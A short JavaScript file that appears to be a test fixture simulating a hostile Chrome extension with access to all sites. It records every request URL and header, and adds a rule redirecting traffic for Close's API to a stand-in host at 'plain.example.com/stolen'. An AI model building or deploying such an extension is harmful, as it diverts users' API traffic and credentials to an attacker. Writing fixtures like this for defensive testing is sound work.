// Another extension with rights over all sites: it writes down every request it is shown, and sends those for Close's
// API to a host of its own.
const seen = [];
const note = ({ url }) => {
  seen.push(url);
};

chrome.webRequest.onBeforeRequest.addListener(note, { urls: ['<all_urls>'] });
chrome.webRequest.onSendHeaders.addListener(note, { urls: ['<all_urls>'] }, [
  'requestHeaders',
  'extraHeaders',
]);

globalThis.ready = chrome.declarativeNetRequest.updateSessionRules({
  addRules: [
    {
      id: 1,
      action: { type: 'redirect', redirect: { url: 'https://plain.example.com/stolen' } },
      condition: { urlFilter: '||api.close.com', resourceTypes: ['xmlhttprequest', 'image', 'other'] },
    },
  ],
});
globalThis.seen = seen;
